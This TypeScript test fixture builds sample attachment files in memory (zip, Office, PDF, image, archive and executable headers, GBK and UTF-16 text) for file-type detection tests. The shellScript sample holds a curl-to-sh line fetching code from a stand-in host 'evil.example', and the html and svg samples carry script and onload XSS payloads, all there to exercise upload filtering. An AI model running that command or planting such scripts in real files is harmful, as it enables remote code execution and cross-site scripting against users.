import { crc32 } from "node:zlib";

/**
 * Small but genuine sample files for the attachment tests, built in memory: each starts with the
 * bytes the real format starts with, so type detection sees what it would see on a real upload.
 */

/** A zip archive with the given entries, stored without compression. */
export function zip(entries: Record<string, string | Buffer>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, content] of Object.entries(entries)) {
    const data = Buffer.isBuffer(content) ? content : Buffer.from(content, "utf8");
    const nameBytes = Buffer.from(name, "utf8");
    const crc = crc32(data);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(0, 8); // stored
    local.writeUInt32LE(crc, 14);
    local.writeUInt32LE(data.length, 18);
    local.writeUInt32LE(data.length, 22);
    local.writeUInt16LE(nameBytes.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt32LE(crc, 16);
    central.writeUInt32LE(data.length, 20);
    central.writeUInt32LE(data.length, 24);
    central.writeUInt16LE(nameBytes.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, nameBytes, data);
    centrals.push(central, nameBytes);
    offset += local.length + nameBytes.length + data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(Object.keys(entries).length, 8);
  end.writeUInt16LE(Object.keys(entries).length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

const contentTypes = (main: string) =>
  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/main.xml" ContentType="${main}"/></Types>`;

export const samples = {
  pdf: () => Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n", "latin1"),
  /** A real 1×1 PNG. */
  png: () => Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==", "base64"),
  jpg: () => Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from("JFIF\0", "latin1"), Buffer.alloc(64, 0x20)]),
  gif: () => Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64"),
  zip: () => zip({ "说明.txt": "督查材料\n", "data/表.csv": "a,b\n1,2\n" }),
  docx: () =>
    zip({
      "[Content_Types].xml": contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
      "word/document.xml": "<w:document/>",
    }),
  xlsx: () =>
    zip({
      "[Content_Types].xml": contentTypes("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
      "xl/workbook.xml": "<workbook/>",
    }),
  /** The header of an OLE compound file, as .doc / .xls / .ppt / .wps / .et files have. */
  ole: () => {
    const header = Buffer.alloc(1024);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
    header.writeUInt16LE(0x003e, 24);
    header.writeUInt16LE(0x0003, 26);
    header.writeUInt16LE(0xfffe, 28);
    header.writeUInt16LE(0x0009, 30);
    return header;
  },
  rar: () => Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), Buffer.alloc(32)]),
  sevenZip: () => Buffer.concat([Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]), Buffer.alloc(32)]),
  /** A Windows executable's start (DOS "MZ" stub and PE signature). */
  exe: () => {
    const b = Buffer.alloc(256);
    b.write("MZ", 0, "latin1");
    b.writeUInt32LE(0x80, 0x3c);
    b.write("PE\0\0", 0x80, "latin1");
    return b;
  },
  /** A Linux executable's start (ELF magic, 64-bit, little-endian). */
  elf: () => Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]),
  /** A Windows Installer package is an OLE compound file, like .doc / .xls. */
  msi: () => {
    const header = Buffer.alloc(1024);
    Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header);
    header.writeUInt16LE(0x003e, 24);
    header.writeUInt16LE(0x0003, 26);
    header.writeUInt16LE(0xfffe, 28);
    header.writeUInt16LE(0x0009, 30);
    return header;
  },
  shellScript: () => Buffer.from("#!/bin/sh\ncurl http://evil.example/x | sh\n", "utf8"),
  html: () => Buffer.from("<!DOCTYPE html><html><body><script>fetch('/api/badges').then(r=>r.text()).then(alert)</script></body></html>\n", "utf8"),
  svg: () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>\n', "utf8"),
  utf8Text: () => Buffer.from("关于督查事项的说明\r\n第一条：按期办结。\n", "utf8"),
  /** "你好，督查" in GBK, as 记事本 in a Chinese Windows saves ANSI text. */
  gbkText: () => Buffer.from([0xc4, 0xe3, 0xba, 0xc3, 0xa3, 0xac, 0xb6, 0xbd, 0xb2, 0xe9, 0x0d, 0x0a]),
  utf16Text: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from("督查 notes\r\n", "utf16le")]),
};
